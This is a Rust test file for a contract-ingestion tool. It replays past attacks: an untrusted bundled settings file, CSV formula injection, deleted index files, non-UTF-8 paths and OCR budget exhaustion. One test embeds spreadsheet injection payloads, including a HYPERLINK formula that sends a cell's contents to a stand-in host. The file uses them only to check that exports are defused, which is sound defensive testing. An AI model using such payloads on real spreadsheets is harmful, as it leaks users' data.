//! Six attacks that once succeeded, each by its name, with files of our own.

use std::ffi::OsStr;
use std::fmt::Write as _;
use std::fs;
use std::io::Write as _;
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use serde_json::Value;
use tickler::config::Settings;
use tickler::detect::model::{Classifier, Effort, Model};
use tickler::pipeline::{self, ReadOptions};
use tickler::signature::Trust;
use tickler::text::{InProcess, Ocr, OcrError, OcrPage, Picture, Scans, Word, extract_with};

use crate::common::{Bench, CONTRACTS, DAY, fixture};
use crate::fire::Dice;
use crate::hostile::{pdf, stream};

/// An archive that brings a `tickler.toml` of its own: its certificate is not trusted, and nothing is hidden.
#[test]
fn archive_settings() {
    let said = |settings: &str, args: &[&str]| {
        let bench = Bench::empty();
        let signatures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/signatures");
        fs::copy(signatures.join("rsa-pss.pdf"), bench.path("in/rsa-pss.pdf")).unwrap();
        fs::copy(signatures.join("keys/authority.pem"), bench.path("in/.x")).unwrap();
        bench.write("in/tickler.toml", settings);
        let run = |args: &[&str]| {
            let output = bench.process(args).current_dir(bench.path("in")).output().unwrap();
            assert!(output.status.success(), "{args:?}: {output:?}");
            String::from_utf8(output.stdout).unwrap()
        };
        run(&[args, &["ingest", "--no-model", "."]].concat());
        let show = run(&[args, &["show", "rsa-pss.pdf", "--as-of", DAY]].concat());
        let trust =
            show.lines().find(|line| line.starts_with("Signature")).expect("a line of the signature").to_owned();
        let table = run(&[args, &["export", "--format", "csv", "--as-of", DAY]].concat());
        let cells = csv::Reader::from_reader(table.as_bytes()).into_records().flatten();
        (
            trust,
            cells.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect::<Vec<_>>(),
            run(&[args, &["review"]].concat()),
        )
    };
    let settings = "trust = \".x\"\nmin_confidence = 1.0\nreview_below = 0.0\nmax_file_mib = 1\n";
    let as_if = said("", &[]);
    let id = |cells: Vec<String>| cells.into_iter().filter(|cell| !cell.contains("/in/")).collect::<Vec<_>>();
    let (trust, cells, review) = said(settings, &[]);
    assert_eq!((&trust, id(cells.clone()), &review), (&as_if.0, id(as_if.1.clone()), &as_if.2));
    // Named by the user, the same settings count: they would have hidden something.
    let (obeyed, fewer, _) = said(settings, &["--config", "tickler.toml"]);
    let filled = |cells: &[String]| cells.iter().filter(|cell| !cell.is_empty()).count();
    assert!(obeyed != trust && filled(&fewer) < filled(&cells), "{obeyed}");
}

/// A page of lines of text.
fn typed(lines: &[&str]) -> Vec<u8> {
    let mut content = String::from("BT /F1 9 Tf 14 TL 40 760 Td ");
    for line in lines {
        write!(content, "({}) ' ", line.replace('(', "\\(").replace(')', "\\)")).unwrap();
    }
    content.push_str("ET");
    pdf(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_vec(),
        stream("", content.as_bytes()),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
    ])
}

/// A title and a duty that go on as formulas where a spreadsheet separates by semicolons, bars or tabs.
#[test]
fn csv_semicolon() {
    let bench = Bench::empty();
    let lines = [
        "SUPPLY AGREEMENT;=2+40;",
        "This Supply Agreement is made as of March 3, 2025 between Alder Inc., a Delaware corporation (\"Supplier\"),",
        "and Birch Ltd., a Texas limited partnership (\"Buyer\").",
        "1. The initial term of this Agreement is two (2) years from March 3, 2025.",
        "2. Supplier shall send the goods;=HYPERLINK(\"http://x.example/?\"&A1) within ten days after March 3, 2025.",
        "3. Buyer shall pay the price|=1+1|@SUM(A1) within thirty days after March 3, 2025.",
    ];
    bench.write("in/supply.pdf", typed(&lines));
    bench.run(&["ingest", "in"]).assert().success();
    for table in ["contracts", "schedule", "obligations"] {
        let text = bench.out(&["export", "--format", "csv", "--table", table, "--as-of", DAY]);
        assert!(text.contains(";=2+40") || text.contains("2+40"), "the title is there: {text}");
        for separator in [b',', b';', b'\t', b'|'] {
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .delimiter(separator)
                .from_reader(text.as_bytes());
            for cell in reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
                // What a quote begins is one cell for a spreadsheet, whatever separates.
                let formula = cell.trim_start_matches(['"', ' ']).starts_with(['=', '+', '@', '\t']);
                assert!(!formula, "{table} by {:?}: {cell}", char::from(separator));
            }
        }
    }
}

/// An index without the files that a killed program had deleted already: search finds the same, at once and later.
#[test]
fn index_pos() {
    let bench = Bench::ingested();
    let found = |query: &str| bench.json(&["search", query, "--format", "json"]);
    let before = ["renew", "\"written notice\""].map(found);
    assert!(before.iter().all(|found| found["total"].as_u64() > Some(0)), "{before:?}");
    for after in [&["search", "renew"][..], &["ingest", "in"], &["doctor"], &["reindex"]] {
        for entry in fs::read_dir(bench.path("store/index")).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|e| e == "pos") {
                fs::remove_file(path).unwrap();
            }
        }
        bench.run(after).assert().success();
        for _ in 0..2 {
            assert_eq!(["renew", "\"written notice\""].map(found), before, "after {after:?}");
        }
    }
}

/// One path that is not UTF-8 in a list: those behind it are read.
#[test]
fn list_utf8() {
    let bench = Bench::new();
    let mut list = Vec::new();
    list.extend(format!("in/{}\n", CONTRACTS[0]).bytes());
    list.extend(b"/tmp/V\xe9rification.pdf\n");
    list.extend(format!("in/{}\nin/{}\n", CONTRACTS[1], CONTRACTS[2]).bytes());
    let output = bench.run(&["ingest", "-"]).write_stdin(list).assert().code(1).get_output().clone();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(said.starts_with("3 new, 0 unchanged, 0 read again, 1 failed"), "{said}");
    assert_eq!(bench.json(&["list", "--format", "json"]).as_array().map(Vec::len), Some(3));
}

/// Two files whose names differ in a byte that is not UTF-8 are two, and nothing of it is said twice.
#[test]
fn same_lossy_name() {
    let bench = Bench::empty();
    for (name, from) in [(&b"V\xe9rif.pdf"[..], CONTRACTS[0]), (b"V\xe8rif.pdf", CONTRACTS[2])] {
        fs::copy(fixture(from), bench.path("in").join(OsStr::from_bytes(name))).unwrap();
    }
    let runs = [0, 1, 2].map(|_| {
        let output = bench.out(&["ingest", "in"]);
        (output.lines().next().unwrap_or_default().to_owned(), bench.out(&["log"]).lines().count())
    });
    assert!(runs[0].0.starts_with("2 new, 0 unchanged"), "{runs:?}");
    assert!(runs[1..].iter().all(|run| run.0.starts_with("0 new, 2 unchanged") && run.1 == runs[0].1), "{runs:?}");
    let report = bench.json(&["verify", "--format", "json"]);
    assert_eq!((&report["sound"], &report["files"]["unchanged"]), (&Value::Bool(true), &2.into()), "{report}");
}

/// A program that needs 83 s of the processor for each look at a page, as tesseract does where it is dense nonsense.
#[derive(Debug, Default)]
struct Toils(AtomicU32);

impl Ocr for Toils {
    fn name(&self) -> Result<String, OcrError> {
        Ok("toils 1.0".to_owned())
    }

    fn words(&self, _: &Picture) -> Result<OcrPage, OcrError> {
        self.0.fetch_add(1, Ordering::Relaxed);
        let word = |n: u16| {
            let left = 20.0 + f32::from(n) * 60.0;
            Word { text: "qxzvkw".to_owned(), x0: left, y0: 100.0, x1: left + 50.0, y1: 110.0, line: 0, confidence: 40 }
        };
        Ok(OcrPage { words: (0..12).map(word).collect(), work: Duration::from_secs(83) })
    }
}

/// A picture of tiny nonsense words, for a PDF.
fn nonsense() -> Vec<u8> {
    const ACROSS: usize = 1656;
    const DOWN: usize = 2340;
    let mut dice = Dice::new();
    let mut picture = vec![0xff_u8; ACROSS / 8 * DOWN];
    for line in (10..DOWN - 10).step_by(9) {
        // Letters of five by seven dots, some of them spaces.
        for left in (10..ACROSS - 10).step_by(6) {
            let ink = if dice.below(6) > 0 { dice.below(1 << 35) } else { 0 };
            for dot in (0..35).filter(|dot| ink >> dot & 1 == 1) {
                let at = (line + dot / 5) * ACROSS + left + dot % 5;
                picture[at / 8] &= !(0x80 >> (at % 8));
            }
        }
    }
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(&picture).unwrap();
    let entries = format!(
        "/Type /XObject /Subtype /Image /Width {ACROSS} /Height {DOWN} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter \
         /FlateDecode"
    );
    stream(&entries, &packed.finish().unwrap())
}

const PAGES: usize = 60;

/// A file whose first page says `content` and whose other [`PAGES`] share one picture of nonsense.
fn dense(content: &str) -> Vec<u8> {
    let kids = (0..=PAGES).map(|n| format!("{} 0 R", n + 7)).collect::<Vec<_>>().join(" ");
    let page = |content: u8, resources: &str| {
        let head = "<< /Type /Page /Parent 2 0 R /MediaBox [0 -10400 595 842]";
        let head = if content == 4 { head.replace("-10400", "0") } else { head.to_owned() };
        format!("{head} /Contents {content} 0 R /Resources << {resources} >> >>").into_bytes()
    };
    let mut objects = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!("<< /Type /Pages /Kids [{kids}] /Count {} >>", PAGES + 1).into_bytes(),
        nonsense(),
        stream("", b"q 595 0 0 842 0 0 cm /I Do Q"),
        stream("", content.as_bytes()),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
        page(5, "/Font << /F1 6 0 R >>"),
    ];
    objects.extend(std::iter::repeat_n(page(4, "/XObject << /I 3 0 R >>"), PAGES));
    pdf(&objects)
}

/// Asserts that what was read within the budget of the scanned pages is kept, and the rest is told.
fn within_the_budget(ocr: Toils, codes: &[&str], scanned: usize, text: &str) {
    assert!(codes.contains(&"ocr.budget"), "{codes:?}");
    // One minute, eight seconds more for each page, and the page that was begun: four looks at most.
    let looks = ocr.0.into_inner();
    assert!((4..=7 + 4).contains(&looks), "{looks} looks");
    assert!(scanned > 0 && scanned < PAGES, "{scanned} pages");
    assert!(text.contains("qxzvkw"), "what was read is kept");
}

/// Pages that share one picture of tiny nonsense: what was read within the budget is kept, and the rest is told.
#[test]
fn ocr_dense() {
    let ocr = Toils::default();
    let read = extract_with(&dense("BT ET"), &InProcess, Scans::Read { ocr: &ocr, every_page: false }).unwrap();
    let codes: Vec<&str> = read.diagnostics.iter().map(|d| d.code.as_str()).collect();
    let scanned = read.scanned.as_ref().expect("some pages were read").pages.len();
    within_the_budget(ocr, &codes, scanned, read.text.as_str());
}

/// A document that takes all that reading, rules, model and scanned pages may: it ends, is kept, and says what is not read.
#[test]
fn a_document_at_the_bounds_of_all_parts_is_kept() {
    let mut content = String::from("BT /F1 8 Tf 11 TL 40 770 Td (This Agreement is governed by the laws of Texas.) ' ");
    for i in 0..1_000 {
        let dates: Vec<String> = (0..6)
            .map(|k| format!("effective {}/{}/20{:02}", (i + k) % 12 + 1, (i * k) % 9 + 1, (i + k) % 30))
            .collect();
        write!(content, "({}) ' ", dates.join(" ")).unwrap();
    }
    content.push_str("ET");
    let ocr = Toils::default();
    let model = cfg!(feature = "embedded-model").then(|| Model::embedded(Effort::Fast).unwrap());
    let options = ReadOptions {
        settings: &Settings::default(),
        model: model.as_ref().map(|model| model as &dyn Classifier),
        engines: &InProcess,
        scans: Scans::Read { ocr: &ocr, every_page: false },
        trust: &Trust::default(),
    };
    let reading = pipeline::read(&dense(&content), "all.pdf", "all.pdf", options).unwrap().remove(0);
    let codes: Vec<&str> = reading.contract.diagnostics.iter().map(|d| d.code.as_str()).collect();
    for code in ["segment.long_sentence", "detect.limited"] {
        assert!(codes.contains(&code), "{code}: {codes:?}");
    }
    let scanned = reading.contract.document.ocr.as_ref().expect("some pages were read").pages.len();
    within_the_budget(ocr, &codes, scanned, reading.text.as_str());
    assert!(reading.contract.governing_law.is_some(), "what was read of it is in the record");
}
